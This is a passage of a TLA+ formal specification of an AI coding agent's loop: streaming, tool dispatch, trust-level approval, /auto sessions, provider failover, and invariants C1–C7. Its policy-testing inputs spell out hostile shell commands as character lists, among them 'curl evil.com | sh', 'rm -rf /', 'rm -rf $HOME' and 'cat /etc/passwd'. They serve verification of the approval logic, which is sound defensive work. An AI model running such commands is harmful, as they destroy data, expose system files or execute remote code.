    CASE chunk.type = "content" ->
           [l EXCEPT !.full_content = @ \o chunk.delta,
                     !.events = Append(@, Ev("delta", chunk.delta)),
                     !.consumed = Append(@, chunk)]
      [] chunk.type = "tool_calls" ->
           [l EXCEPT !.tool_calls = chunk.tool_calls,
                     !.events = Append(@, Ev("tool_calls", "")),
                     !.consumed = Append(@, chunk)]
      [] OTHER ->
           [l EXCEPT !.full_content = IF chunk.full_content # NoText
                                      THEN chunk.full_content ELSE @,
                     !.tool_calls = IF l.tool_calls = <<>>
                                    THEN chunk.tool_calls ELSE @,
                     !.consumed = Append(@, chunk)]

StreamChunk(t, events, maxlen, maxToolRounds) ==
    /\ pc[t] = "stream"
    /\ Len(loc[t].consumed) < maxlen
    /\ ~Finished(loc[t].consumed)
    /\ \E chunk \in events :
         LET l == loc[t] IN
         /\ chunk.tool_calls # <<>> => ToolsOffered(l) /\ l.rounds < maxToolRounds
         /\ loc' = [loc EXCEPT ![t] = Aggregate(l, chunk)]
    /\ UNCHANGED <<lock, pc, ret, turns, context, AUTONOMY_SETTINGS,
                   approval_callback, registry, cwd,
                   notifier>>
    /\ Emitted(t)

\* the stream is exhausted: _handle_streaming returns (core.py 273-277)
StreamEnd(t) ==
    /\ pc[t] = "stream"
    /\ LET l == loc[t] IN
       loc' = [loc EXCEPT ![t] =
                 [l EXCEPT !.response = [content |-> l.full_content,
                                         tool_calls |-> l.tool_calls],
                           !.inHandler = FALSE]]
    /\ pc' = [pc EXCEPT ![t] = "resp"]
    /\ UNCHANGED <<lock, ret, turns, context, AUTONOMY_SETTINGS, approval_callback,
                   registry, cwd,
                   observers, notifier>>

(***************************************************************************)
(* The end of a round (core.py 227-236).  With tool calls,                 *)
(* _execute_tool_calls starts (core.py 284-302): the calls are normalized, *)
(* a missing id being replaced by generate_id("tc_"), the assistant        *)
(* message is appended and the trust level is read.  Without, the          *)
(* response's text is the loop's return value.                             *)
(***************************************************************************)
CallsUnlessText(response) == response.tool_calls # <<>> /\ response.content = ""

\* tool_calls = response.get("tool_calls", []); if tool_calls: (core.py 228-230)
HasToolCalls(response) == response.tool_calls # <<>>

TrustDefault(settings) == "balanced"

\* trust_level = AUTONOMY_SETTINGS.get("trust_level", "balanced"), read when
\* the batch begins (core.py 302)
BatchTrustLevel(settings) == settings.trust_level

CheckToolCalls(t) ==
    /\ pc[t] = "resp"
    /\ LET l == loc[t]
           tool_calls == l.response.tool_calls
       IN
       IF HasToolCalls(l.response)
       THEN /\ \E g \in [1..Len(tool_calls) -> GenIds] :
                 LET normalized == [i \in 1..Len(tool_calls) |->
                                      IF tool_calls[i].id = NoId THEN g[i]
                                      ELSE tool_calls[i].id]
                 IN context' = Append(context,
                                     Msg("assistant", t, normalized,
                                         IF l.response.content = "" THEN NoText
                                         ELSE l.response.content))
            /\ loc' = [loc EXCEPT ![t] =
                  [l EXCEPT !.trust_level = BatchTrustLevel(AUTONOMY_SETTINGS),
                            !.idx = 1, !.rounds = @ + 1, !.result = NoResult,
                            !.appended =
                                Append(@, Added("assistant", Len(tool_calls)))]]
            /\ pc' = [pc EXCEPT ![t] = "tool"]
       ELSE /\ loc' = [loc EXCEPT ![t] =
                  [l EXCEPT !.outcome = Returned(l.response.content),
                            !.finals = @ + 1]]
            /\ pc' = [pc EXCEPT ![t] = "store"]
            /\ UNCHANGED context
    /\ UNCHANGED <<lock, ret, turns, AUTONOMY_SETTINGS, approval_callback, registry, cwd,
                   observers, notifier>>

\* what the tiered approval logic decided for a terminal command, with the
\* trust level, the command text and the /auto session it was decided under
Decision(trust, cmd, settings, decision) ==
    [trust |-> trust, command |-> cmd,
     scope |-> [auto_session_active |-> settings.auto_session_active,
                auto_directory |-> settings.auto_directory],
     how |-> IF decision \in {"ask", "ask_notify"} THEN "ask" ELSE "auto"]

(***************************************************************************)
(* One invocation up to its approval (core.py 304-460): its id, the        *)
(* parsed arguments, tool_start, and the tiered approval logic, which      *)
(* lets it run, hands it to the approval callback, or fails on arguments   *)
(* that are no mapping.                                                    *)
(***************************************************************************)
ToolEval(t) ==
    /\ pc[t] = "tool"
    /\ LET l == loc[t]
           tc == l.response.tool_calls[l.idx]
           func_args == ParseArgs(tc.args)
           decision == Policy(tc.name, func_args, l.trust_level,
                              approval_callback, AUTONOMY_SETTINGS, cwd)
           started == Append(l.events, Ev("tool_start", tc.name))
           decided == IF tc.name = "execute_terminal" /\ decision # "raise"
                      THEN Append(l.decisions,
                                  Decision(l.trust_level, func_args.command,
                                           AUTONOMY_SETTINGS, decision))
                      ELSE l.decisions
       IN
       \E gid \in GenIds :
         LET l1 == [l EXCEPT !.tc_id = IF tc.id = NoId THEN gid ELSE tc.id,
                             !.func_args = func_args,
                             !.result = NoResult,
                             !.asked = FALSE, !.approved = "none",
                             !.notified = FALSE,
                             !.ran = FALSE, !.decisions = decided]
         IN
         CASE decision = "raise" ->
                /\ loc' = [loc EXCEPT ![t] =
                     [l1 EXCEPT !.events = started,
                                !.outcome = Raised(LoopError("AttributeError"))]]
                /\ pc' = [pc EXCEPT ![t] = "exit"]
                /\ UNCHANGED notifier
           [] decision \in {"ask", "ask_notify"} ->
                /\ loc' = [loc EXCEPT ![t] =
                     [l1 EXCEPT !.events =
                         Append(started, Ev("approval_required", tc.name)),
                                !.notified =
                                    Notifies(decision) /\ notifier.enabled]]
                /\ notifier' = IF Notifies(decision)
                               THEN notify_pending_approval(notifier)
                               ELSE notifier
                /\ pc' = [pc EXCEPT ![t] = "approve"]
           [] decision \in {"auto_logged", "auto_scope"} ->
                /\ loc' = [loc EXCEPT ![t] =
                     [l1 EXCEPT !.events =
                         Append(started,
                                Ev("info", IF decision = "auto_scope"
                                           THEN "auto" ELSE "autonomous"))]]
                /\ pc' = [pc EXCEPT ![t] = "run"]
                /\ UNCHANGED notifier
           [] OTHER ->
                /\ loc' = [loc EXCEPT ![t] = [l1 EXCEPT !.events = started]]
                /\ pc' = [pc EXCEPT ![t] = "run"]
                /\ UNCHANGED notifier
    /\ UNCHANGED <<lock, ret, turns, context, AUTONOMY_SETTINGS, approval_callback,
                   registry, cwd>>
    /\ Emitted(t)

\* approved = self.approval_callback(tool_desc) returns (core.py 432-434,
\* 445-447, 457-459)
AnswerIgnored(approved) == NoResult

\* if not approved: result = the rejection text
AnswerResult(approved) == IF approved THEN NoResult ELSE REJECTED

ApprovalAnswer(t) ==
    /\ pc[t] = "approve"
    /\ Joined(notifier) = {}
    /\ \E approved \in BOOLEAN :
         loc' = [loc EXCEPT ![t] =
                   [@ EXCEPT !.result = AnswerResult(approved),
                             !.asked = TRUE,
                             !.approved = IF approved THEN "yes" ELSE "no"]]
    /\ pc' = [pc EXCEPT ![t] = "run"]
    /\ UNCHANGED <<lock, ret, turns, context, AUTONOMY_SETTINGS, approval_callback,
                   registry, cwd,
                   observers, notifier>>

\* ToolRegistry.execute (tools/base.py 106-111) with Tool.safe_execute
\* (57-76): what the dispatcher returns for a tool whose execute gave r
\* (NoResult for None) or raised ("raised").
RegistryExecute(name, r) ==
    IF name \notin RegisteredTools THEN "Error: Unknown tool"
    ELSE IF r = "raised" THEN "Error executing tool"
    ELSE r

\* the call self.tool_registry.execute(func_name, **func_args) (core.py 463)
\* of execute(self, name, **kwargs) (tools/base.py 106) raises TypeError
\* before the body of execute runs: func_args is no mapping, or it has a
\* key "name", a second value for the parameter name
CallRaises(fa) == ~fa.isdict \/ fa.named

(***************************************************************************)
(* The rest of the invocation (core.py 462-476): unless rejected the tool  *)
(* is dispatched with **func_args, tool_result is emitted with             *)
(* result[:200], and the tool message is appended.                         *)
(***************************************************************************)
ToolRun(t, outputs) ==
    /\ pc[t] = "run"
    /\ LET l == loc[t]
           tc == l.response.tool_calls[l.idx]
           last == l.idx = Len(l.response.tool_calls)
       IN
       \E r \in outputs :
         LET dispatch == l.result = NoResult
             result == IF dispatch THEN RegistryExecute(tc.name, r) ELSE l.result
         IN
         IF (dispatch /\ CallRaises(l.func_args)) \/ result = NoResult
         THEN /\ loc' = [loc EXCEPT ![t] =
                   [l EXCEPT !.outcome = Raised(LoopError("TypeError")),
                             !.ran = dispatch /\ ~CallRaises(l.func_args),
                             !.dispatched = IF dispatch /\ ~CallRaises(l.func_args)
                                            THEN @ + 1 ELSE @]]
              /\ pc' = [pc EXCEPT ![t] = "exit"]
              /\ UNCHANGED context
         ELSE /\ loc' = [loc EXCEPT ![t] =
                   [l EXCEPT !.result = NoResult,
                             !.events = Append(@, Ev("tool_result", tc.name)),
                             !.dispatched = IF dispatch THEN @ + 1 ELSE @,
                             !.ran = dispatch,
                             !.appended = Append(@, Added("tool", 0)),
                             !.idx = @ + 1]]
              /\ context' = Append(context, Msg("tool", t, <<l.tc_id>>, result))
              /\ pc' = [pc EXCEPT ![t] = IF last THEN "loop" ELSE "tool"]
    /\ UNCHANGED <<lock, ret, turns, AUTONOMY_SETTINGS, approval_callback, registry, cwd,
                   notifier>>
    /\ Emitted(t)

StoreNothing(t) ==
    /\ pc[t] = "store"
    /\ pc' = [pc EXCEPT ![t] = "exit"]
    /\ UNCHANGED <<lock, loc, ret, turns, context, AUTONOMY_SETTINGS,
                   approval_callback, registry, cwd,
                   observers, notifier>>

\* _chat_unsafe stores the loop's answer and returns it (core.py 146-158)
Store(t) ==
    /\ pc[t] = "store"
    /\ context' = Append(context, Msg("assistant", t, <<>>, loc[t].outcome.val))
    /\ loc' = [loc EXCEPT ![t].appended = Append(@, Added("assistant", 0))]
    /\ pc' = [pc EXCEPT ![t] = "exit"]
    /\ UNCHANGED <<lock, ret, turns, AUTONOMY_SETTINGS, approval_callback,
                   registry, cwd,
                   observers, notifier>>

\* the with block is left, by return or by exception: the lock is released
\* and chat()'s caller gets the outcome (core.py 87-88)
Release(t) ==
    /\ pc[t] = "exit"
    /\ lock' = IF lock = t THEN NoThread ELSE lock
    /\ ret' = [ret EXCEPT ![t] = loc[t].outcome]
    /\ loc' = [loc EXCEPT ![t] = InitLoc]
    /\ pc' = [pc EXCEPT ![t] = "idle"]
    /\ UNCHANGED <<turns, context, AUTONOMY_SETTINGS, approval_callback, registry, cwd>>
    /\ notifier' = [notifier EXCEPT !.threads = <<>>]
    /\ Emitted(t)

(***************************************************************************)
(* The user interface changes the process-wide settings while turns may be *)
(* under way on other threads (main.py 198-248: the command line runs in   *)
(* the foreground, the Telegram bot and the web interface in background    *)
(* threads).  Each thread with a turn under way notes the loop iteration   *)
(* in which the change fell.                                               *)
(***************************************************************************)
NoteChange(field) ==
    [t \in Threads |->
        IF pc[t] # "idle" THEN [loc[t] EXCEPT ![field] = loc[t].iteration]
        ELSE loc[t]]

\* _configure_autonomy: AUTONOMY_SETTINGS["trust_level"] = choice
SetTrust(choices) ==
    /\ \E choice \in choices :
          /\ choice # AUTONOMY_SETTINGS.trust_level
          /\ AUTONOMY_SETTINGS' = [AUTONOMY_SETTINGS EXCEPT !.trust_level = choice]
    /\ loc' = NoteChange("trust_changed")
    /\ UNCHANGED <<lock, pc, ret, turns, context, approval_callback, registry, cwd,
                   observers, notifier>>

\* _configure_auto("off")
AutoOff ==
    /\ AUTONOMY_SETTINGS.auto_session_active
    /\ AUTONOMY_SETTINGS' = [AUTONOMY_SETTINGS EXCEPT
                                !.auto_session_active = FALSE,
                                !.auto_directory = NoDir]
    /\ loc' = NoteChange("scope_changed")
    /\ UNCHANGED <<lock, pc, ret, turns, context, approval_callback, registry, cwd,
                   observers, notifier>>

\* _configure_auto(arg) with a directory that exists
AutoDir(dirs) ==
    /\ \E arg \in dirs :
          LET target_dir == abspath(expanduser(arg), cwd) IN
          /\ ~(/\ AUTONOMY_SETTINGS.auto_session_active
               /\ AUTONOMY_SETTINGS.auto_directory = target_dir)
          /\ AUTONOMY_SETTINGS' = [AUTONOMY_SETTINGS EXCEPT
                                      !.auto_directory = target_dir,
                                      !.auto_session_active = TRUE]
    /\ loc' = NoteChange("scope_changed")
    /\ UNCHANGED <<lock, pc, ret, turns, context, approval_callback, registry, cwd,
                   observers, notifier>>


(***************************************************************************)
(* Inputs: what the model, the tools and the callers may send.             *)
(***************************************************************************)
SeqsUpTo(S, n) == UNION {[1..k -> S] : k \in 1..n}

ReadOk == Inv("c1", "read_file", "object", <<>>)

ReadNoId == Inv(NoId, "read_file", "object", <<>>)

DeleteList == Inv("c3", "delete_file", "nonobject", <<>>)

Final(text) == [content |-> text, tool_calls |-> <<>>]

WithCalls(text, tcs) == [content |-> text, tool_calls |-> tcs]

ToolOutputs == {"ok", "raised", NoResult}

(***************************************************************************)
(* Spec: turns of two threads on one agent, as the Telegram bot runs them  *)
(* (ui/telegram_bot.py: agent.chat(user_text, False) in the executor).     *)
(* A response carries one invocation or none; a turn may run into the      *)
(* cutoff.                                                                 *)
(***************************************************************************)
TurnResponses ==
    {Final("done"), WithCalls("plan", <<ReadOk>>), WithCalls("plan", <<DeleteList>>)}

Next ==
    \E t \in Threads :
        \/ ChatCall(t, {FALSE})
        \/ Acquire(t, Models)
        \/ RoundStart(t)
        \/ Respond(t, TurnResponses, MAX_TOOL_ITERATIONS)
        \/ ProviderRaise(t)
        \/ HandleFailure(t)
        \/ CheckToolCalls(t)
        \/ ToolEval(t)
        \/ ToolRun(t, {"ok", NoResult})
        \/ Store(t)
        \/ Release(t)

Spec == Init /\ [][Next]_vars

(***************************************************************************)
(* The same program with its threads scheduled: a thread inside chat()     *)
(* that can take a step eventually takes one, every model call, tool       *)
(* execution and callback returning.  Nothing obliges a caller to call     *)
(* chat().                                                                 *)
(***************************************************************************)
TurnStep(t) ==
    \/ Acquire(t, Models)
    \/ RoundStart(t)
    \/ Respond(t, TurnResponses, MAX_TOOL_ITERATIONS)
    \/ ProviderRaise(t)
    \/ HandleFailure(t)
    \/ CheckToolCalls(t)
    \/ ToolEval(t)
    \/ ToolRun(t, {"ok", NoResult})
    \/ Store(t)
    \/ Release(t)

SpecLive == Init /\ [][Next]_vars /\ \A t \in Threads : WF_vars(TurnStep(t))


(***************************************************************************)
(* SpecFailover: one turn at a time on one thread, blocking or streaming,  *)
(* with every model; any provider call may raise.                          *)
(***************************************************************************)
FailoverResponses == {Final("done"), WithCalls("plan", <<ReadOk>>)}

FailoverEvents ==
    {ContentEv("a"), ContentEv("b"), ToolCallsEv(<<ReadOk>>), FinishEv(NoText, <<>>)}

NextFailover ==
    \E t \in {"t1"} :
        \/ ChatCall(t, BOOLEAN)
        \/ Acquire(t, Models)
        \/ RoundStart(t)
        \/ Respond(t, FailoverResponses, MaxToolRounds)
        \/ StreamChunk(t, FailoverEvents, MaxTurnStream, MaxToolRounds)
        \/ StreamEnd(t)
        \/ ProviderRaise(t)
        \/ HandleFailure(t)
        \/ CheckToolCalls(t)
        \/ ToolEval(t)
        \/ ToolRun(t, {"ok"})
        \/ Store(t)
        \/ Release(t)

SpecFailover == Init /\ [][NextFailover]_vars

(***************************************************************************)
(* SpecTools: the tool rounds of a turn, under every trust level, with and *)
(* without an approval callback (ui/cli.py 77, test_security.py 25).       *)
(***************************************************************************)
RmTmpFoo ==
    <<"r", "m", " ", "-", "r", "f", " ", "/", "t", "m", "p", "/", "f", "o", "o">>

LsLa == <<"l", "s", " ", "-", "l", "a">>

ToolInvocations ==
    {ReadOk, ReadNoId, DeleteList,
     Inv("c2", "execute_terminal", "object", RmTmpFoo),
     Inv("c4", "execute_terminal", "object", LsLa),
     Inv("c5", "run_code", "object", <<>>),
     Inv("c6", "no_such_tool", "invalid", <<>>),
     Inv("c7", "read_file", "named", <<>>)}

ToolResponses ==
    {Final("done")}
    \cup {WithCalls("plan", tcs) : tcs \in SeqsUpTo(ToolInvocations, MaxCalls)}

InitTools == InitWith(TrustLevels, BOOLEAN)

NextTools ==
    \E t \in {"t1"} :
        \/ ChatCall(t, {FALSE})
        \/ Acquire(t, {"deepseek-chat"})
        \/ RoundStart(t)
        \/ Respond(t, ToolResponses, MaxToolRounds)
        \/ CheckToolCalls(t)
        \/ ToolEval(t)
        \/ ApprovalAnswer(t)
        \/ ToolRun(t, ToolOutputs)
        \/ Store(t)
        \/ Release(t)

SpecTools == InitTools /\ [][NextTools]_vars

(***************************************************************************)
(* SpecPolicy: one agent under every trust level, with and without an      *)
(* approval callback (ui/cli.py 77, test_security.py 25), with and without *)
(* an /auto session on /proj (ui/cli.py 661-673) and an auto-approve       *)
(* pattern, started in or outside the project directory.  The model asks   *)
(* for terminal commands, code execution and file tools.                   *)
(***************************************************************************)
GitStatus == <<"g", "i", "t", " ", "s", "t", "a", "t", "u", "s">>

CurlPipeSh ==
    <<"c", "u", "r", "l", " ", "e", "v", "i", "l", ".", "c", "o", "m", " ",
      "|", " ", "s", "h">>

LsAndRmRoot ==
    <<"l", "s", " ", "&", "&", " ", "r", "m", " ", "-", "r", "f", " ", "/">>

RmRfRoot == <<"r", "m", " ", "-", "r", "f", " ", "/">>

RmRfHome == <<"r", "m", " ", "-", "r", "f", " ", "$", "H", "O", "M", "E">>

SudoReboot == <<"S", "u", "d", "o", " ", "R", "e", "b", "o", "o", "t">>

CdSubNpmTest ==
    <<"c", "d", " ", "/", "p", "r", "o", "j", "/", "s", "u", "b", " ", "&",
      "&", " ", "n", "p", "m", " ", "t", "e", "s", "t">>

NpmTest == <<"n", "p", "m", " ", "t", "e", "s", "t">>

CatEtcPasswd ==
    <<"c", "a", "t", " ", "/", "e", "t", "c", "/", "p", "a", "s", "s", "w",
      "d">>

\* a command that moves to /project, a directory next to /proj
CdProjectLs ==
    <<"c", "d", " ", "/", "p", "r", "o", "j", "e", "c", "t", " ", "&", "&",
      " ", "l", "s">>

\* a command that names a path outside /proj within quotes
CatQuotedPasswd ==
    <<"c", "a", "t", " ", "'", "/", "e", "t", "c", "/", "p", "a", "s", "s",
      "w", "d", "'">>

\* a command that leaves the directory, works above it and comes back
CdUpRmCdProj ==
    <<"c", "d", " ", ".", ".", " ", "&", "&", " ", "r", "m", " ", "-", "r",
      " ", "x", " ", "&", "&", " ", "c", "d", " ", "p", "r", "o", "j">>

ProjDir == <<"/", "p", "r", "o", "j">>

NpmAny == <<"n", "p", "m", " ", "*">>

Terminal(id, cmd) == Inv(id, "execute_terminal", "object", cmd)

TerminalIn(id, cmd, wd) == InvIn(id, "execute_terminal", "object", cmd, wd)

PolicyCommands ==
    {GitStatus, LsLa, CurlPipeSh, LsAndRmRoot, RmRfRoot, RmRfHome, SudoReboot,
     CdSubNpmTest, NpmTest, CatEtcPasswd, RmTmpFoo, CdProjectLs,
     CatQuotedPasswd, CdUpRmCdProj}

PolicyInvocations ==
    {Terminal("c1", cmd) : cmd \in PolicyCommands}
    \cup {TerminalIn("c2", cmd, ProjDir) : cmd \in {RmRfRoot, NpmTest}}
    \cup {Inv("c3", name, "object", <<>>) :
            name \in {"run_code", "write_file", "delete_file", "read_file"}}

PolicyResponses ==
    {Final("done")}
    \cup {WithCalls("plan", <<tc>>) : tc \in PolicyInvocations}
    \cup {WithCalls("plan", <<Terminal("c1", CurlPipeSh), Terminal("c4", LsLa)>>),
          WithCalls("plan", <<Terminal("c1", NpmTest),
                              TerminalIn("c2", NpmTest, ProjDir)>>)}

InitPolicy ==
    InitEnv(TrustLevels, BOOLEAN, {NoScope, Scope(ProjDir)}, {{}, {NpmAny}},
            {ProjDir, HomeDir}, {TRUE})

NextPolicy ==
    \E t \in {"t1"} :
        \/ ChatCall(t, {FALSE})
        \/ Acquire(t, {"deepseek-chat"})
        \/ RoundStart(t)
        \/ Respond(t, PolicyResponses, MaxToolRounds)
        \/ CheckToolCalls(t)
        \/ ToolEval(t)
        \/ ApprovalAnswer(t)
        \/ ToolRun(t, {"ok"})
        \/ Store(t)
        \/ Release(t)

SpecPolicy == InitPolicy /\ [][NextPolicy]_vars

(***************************************************************************)
(* SpecSettings: turns of one thread with a callback registered, while the *)
(* user interface changes the trust level and the /auto session.           *)
(***************************************************************************)
SettingsResponses ==
    {Final("done"),
     WithCalls("plan", <<Terminal("c1", RmTmpFoo)>>),
     WithCalls("plan", <<Inv("c3", "run_code", "object", <<>>)>>),
     WithCalls("plan", <<Terminal("c1", NpmTest), Terminal("c2", LsLa)>>)}

InitSettings ==
    InitEnv({"balanced"}, {TRUE}, {NoScope}, {{}}, {ProjDir}, {TRUE})

NextSettings ==
    \/ \E t \in {"t1"} :
        \/ ChatCall(t, {FALSE})
        \/ Acquire(t, {"deepseek-chat"})
        \/ RoundStart(t)
        \/ Respond(t, SettingsResponses, MaxToolRounds)
        \/ CheckToolCalls(t)
        \/ ToolEval(t)
        \/ ApprovalAnswer(t)
        \/ ToolRun(t, {"ok"})
        \/ Store(t)
        \/ Release(t)
    \/ SetTrust(TrustLevels)
    \/ AutoOff
    \/ AutoDir({ProjDir})

SpecSettings == InitSettings /\ [][NextSettings]_vars

(***************************************************************************)
(* SpecStream: _handle_streaming on one stream of a streaming turn.        *)
(***************************************************************************)
StreamEvents ==
    {ContentEv("a"), ContentEv("b"),
     ToolCallsEv(<<ReadOk>>), ToolCallsEv(<<ReadNoId>>), ToolCallsEv(<<>>),
     FinishEv(NoText, <<>>), FinishEv("ab", <<>>), FinishEv("", <<>>),
     FinishEv("z", <<ReadNoId>>), FinishEv(NoText, <<ReadOk>>)}

NextStream ==
    \E t \in {"t1"} :
        \/ ChatCall(t, {TRUE})
        \/ Acquire(t, {"deepseek-chat"})
        \/ RoundStart(t)
        \/ StreamChunk(t, StreamEvents, MaxStreamLen, MaxToolRounds)
        \/ StreamEnd(t)

SpecStream == Init /\ [][NextStream]_vars

(***************************************************************************)
(* The user-facing commands that replace the conversation (core.py         *)
(* 571-595), called by the user interface's own thread: the Telegram bot   *)
(* runs /newchat on its event loop (ui/telegram_bot.py 53-59) while a      *)
(* chat() runs on an executor thread (96-99).  Neither takes the lock.     *)
(***************************************************************************)
\* new_chat: context_manager.clear(), then the system prompt again
NewChat ==
    /\ context' = <<>>
    /\ UNCHANGED <<lock, pc, loc, ret, turns, AUTONOMY_SETTINGS,
                   approval_callback, registry, cwd,
                   notifier>>
    /\ observers' = emit(observers, Ev("info", "new chat"))

\* load_chat: context_manager.clear(), the system prompt, then the loaded
\* messages
LoadChat(histories) ==
    /\ \E messages \in histories : context' = messages
    /\ UNCHANGED <<lock, pc, loc, ret, turns, AUTONOMY_SETTINGS,
                   approval_callback, registry, cwd,
                   notifier>>
    /\ observers' = emit(observers, Ev("info", "loaded"))

SavedChats == {<<Msg("user", NoThread, <<>>, "user")>>}

NextChats ==
    \/ \E t \in {"t1"} :
          \/ ChatCall(t, {FALSE})
          \/ Acquire(t, Models)
          \/ RoundStart(t)
          \/ Respond(t, FailoverResponses, MaxToolRounds)
          \/ CheckToolCalls(t)
          \/ ToolEval(t)
          \/ ToolRun(t, {"ok"})
          \/ Store(t)
          \/ Release(t)
    \/ NewChat
    \/ LoadChat(SavedChats)

SpecChats == Init /\ [][NextChats]_vars


(***************************************************************************)
(* A turn with observers.  The user interface registers its callbacks      *)
(* before it calls chat() (ui/cli.py 76); a callback returns or raises.    *)
(***************************************************************************)
\* on_response: self._response_callbacks.append(callback) (core.py 69-71)
OnResponse(behaviours) ==
    /\ \A t \in Threads : turns[t] = 0
    /\ Len(observers.callbacks) < MaxObservers
    /\ \E raises \in behaviours :
         observers' = [observers EXCEPT
                          !.callbacks = Append(@, Observer(raises))]
    /\ UNCHANGED <<lock, pc, loc, ret, turns, context, AUTONOMY_SETTINGS,
                   approval_callback, registry, cwd, notifier>>

NextEmit ==
    \/ OnResponse({"none", "Exception"})
    \/ \E t \in {"t1"} :
          \/ ChatCall(t, BOOLEAN)
          \/ Acquire(t, {"deepseek-chat"})
          \/ RoundStart(t)
          \/ Respond(t, FailoverResponses, MaxToolRounds)
          \/ StreamChunk(t, FailoverEvents, MaxTurnStream, MaxToolRounds)
          \/ StreamEnd(t)
          \/ CheckToolCalls(t)
          \/ ToolEval(t)
          \/ ToolRun(t, {"ok"})
          \/ Store(t)
          \/ Release(t)

SpecEmit == InitEnv({"balanced"}, {FALSE}, {NoScope}, {{}}, {HomeDir}, {TRUE})
            /\ [][NextEmit]_vars

(***************************************************************************)
(* A turn with the pending-approval notification.  _send runs on its own   *)
(* daemon thread (core.py 534-553): it sends the message, or it fails and  *)
(* the failure is logged, or it takes no further step.                     *)
(***************************************************************************)
Send(outcomes) ==
    /\ \E i \in DOMAIN notifier.threads, o \in outcomes :
          /\ notifier.threads[i] = "running"
          /\ notifier' = [notifier EXCEPT !.threads[i] = o]
    /\ UNCHANGED <<lock, pc, loc, ret, turns, context, AUTONOMY_SETTINGS,
                   approval_callback, registry, cwd, observers>>

NotifyResponses ==
    {Final("done"),
     WithCalls("plan", <<Terminal("c1", RmTmpFoo)>>),
     WithCalls("plan", <<Inv("c3", "run_code", "object", <<>>)>>),
     WithCalls("plan", <<Terminal("c1", RmTmpFoo), Terminal("c2", RmTmpFoo)>>)}

InitNotify ==
    /\ InitAgent(TrustLevels, {TRUE}, {NoScope}, {{}}, {ProjDir}, {TRUE})
    /\ notifier \in {Notifier(enabled) : enabled \in BOOLEAN}

NextNotify ==
    \/ \E t \in {"t1"} :
        \/ ChatCall(t, {FALSE})
        \/ Acquire(t, {"deepseek-chat"})
        \/ RoundStart(t)
        \/ Respond(t, NotifyResponses, MaxToolRounds)
        \/ CheckToolCalls(t)
        \/ ToolEval(t)
        \/ ApprovalAnswer(t)
        \/ ToolRun(t, {"ok"})
        \/ Store(t)
        \/ Release(t)
    \/ Send({"sent", "failed"})

SpecNotify == InitNotify /\ [][NextNotify]_vars

(***************************************************************************)
(* Properties.                                                             *)
(***************************************************************************)
InTurn ==
    {"loop", "call", "stream", "except", "resp", "tool", "approve", "run",
     "store", "exit"}

InfoCount(l) ==
    Cardinality({i \in 1..Len(l.events) : l.events[i] = Ev("info", "failover")})

\* C1: whatever the model answers, _agent_loop starts at most
\* MAX_TOOL_ITERATIONS rounds and then ends by returning, without raising:
\* the text of a response without tool calls, or the cutoff string after
\* MAX_TOOL_ITERATIONS rounds that all carried tool calls.
C1_LoopEndsByReturning ==
    \A t \in Threads :
        LET l == loc[t] IN
        /\ l.iteration <= MAX_TOOL_ITERATIONS
        /\ (pc[t] = "exit" /\ l.outcome.exc.type # "ProviderError") =>
              /\ l.outcome.kind = "returned"
              /\ \/ /\ l.finals = 1
                    /\ l.response.tool_calls = <<>>
                    /\ l.outcome.val = l.response.content
                 \/ /\ l.finals = 0
                    /\ l.outcome.val = CUTOFF
                    /\ l.rounds = MAX_TOOL_ITERATIONS
                    /\ l.iteration = MAX_TOOL_ITERATIONS

\* C2: at most one thread is inside _chat_unsafe at any time, it is the
\* holder of the lock, and the messages appended to the context while the
\* lock is held are all appended by its holder.
C2_OneTurnAtATime ==
    /\ Cardinality({t \in Threads : pc[t] \in InTurn}) <= 1
    /\ \A t \in Threads : pc[t] \in InTurn => lock = t
    /\ lock # NoThread => \A i \in 1..Len(context) : context[i].by = lock

\* a second caller waits for the lock while the first is among its tool calls
C2_Witness ==
    \E t, u \in Threads :
        /\ t # u
        /\ pc[t] = "tool" /\ lock = t /\ Len(context) >= 1
        /\ pc[u] = "acquire"

\* C3: every tool message carries the id of an entry of the tool_calls of
\* an assistant message appended earlier in the same round, also when the
\* invocation came without an id.
C3_ToolMessageAnswersRecordedCall ==
    \A i \in 1..Len(context) :
        context[i].role = "tool" =>
            \E j \in 1..(i - 1) :
                /\ context[j].role = "assistant"
                /\ \E k \in 1..Len(context[j].ids) :
                       context[j].ids[k] = context[i].ids[1]

\* C4: a turn that returns without the cutoff returns the text of its first
\* response without tool invocations; once that response is in, the turn
\* makes no model call and dispatches no tool, and the text of a response
\* that carried tool calls is not returned.
C4_FirstPlainResponseIsReturned ==
    \A t \in Threads :
        LET l == loc[t] IN
        /\ l.finals <= 1
        /\ l.finals = 1 =>
              /\ pc[t] \in {"store", "exit"}
              /\ l.response.tool_calls = <<>>
              /\ l.outcome = Returned(l.response.content)
        /\ (l.outcome.kind = "returned" /\ l.outcome.val # CUTOFF) => l.finals = 1
        /\ l.rounds + l.finals <= l.iteration

\* a turn that ends with the model's text after at least one tool round
C4_Witness ==
    \E t \in Threads :
        /\ pc[t] = "exit"
        /\ loc[t].outcome = Returned("done")
        /\ loc[t].rounds >= 1

\* C5: when a provider other than nvidia_llm raises in a round, one 'info'
\* event is emitted, the same messages are sent once more, to nvidia_llm
\* with the fallback model, with the tool schema exactly when the fallback
\* model supports tools, and a response obtained in that round is the
\* retry's.
C5_FailoverRetriesOnce ==
    \A t \in Threads :
        LET l == loc[t] IN
        /\ Len(l.calls) <= 2
        /\ InfoCount(l) = (IF Len(l.calls) = 2 THEN 1 ELSE 0)
        /\ Len(l.calls) = 2 =>
              /\ l.calls[1].provider # DEFAULT_PROVIDER
              /\ l.exc = ProviderError(l.calls[1].provider)
              /\ l.calls[2] = Call(DEFAULT_PROVIDER, FALLBACK_MODEL,
                                   registry[FALLBACK_MODEL].supports_tools,
                                   l.calls[1].messages)
        /\ (pc[t] = "resp" /\ l.exc # NoExc) => Len(l.calls) = 2 /\ ~l.inHandler

\* the retry was answered, with the tool schema the first request lacked
C5_Witness ==
    \E t \in Threads :
        /\ pc[t] = "resp"
        /\ Len(loc[t].calls) = 2
        /\ ~loc[t].calls[1].tools /\ loc[t].calls[2].tools

\* C6: when the first provider and the fallback both raise, the
\* exception that leaves the turn is the first provider's.
C6_FirstExceptionPropagates ==
    \A t \in Threads :
        LET l == loc[t] IN
        (pc[t] = "exit" /\ l.outcome.kind = "raised" /\ l.inHandler) =>
            l.outcome.exc = l.exc

\* C7: a failure of nvidia_llm is not retried and emits no failover 'info'
\* event: it leaves chat().  No request is retried more than once, a
\* request to nvidia_llm never, and a failed retry ends the turn.
C7_DefaultFailurePropagates ==
    \A t \in Threads :
        LET l == loc[t] IN
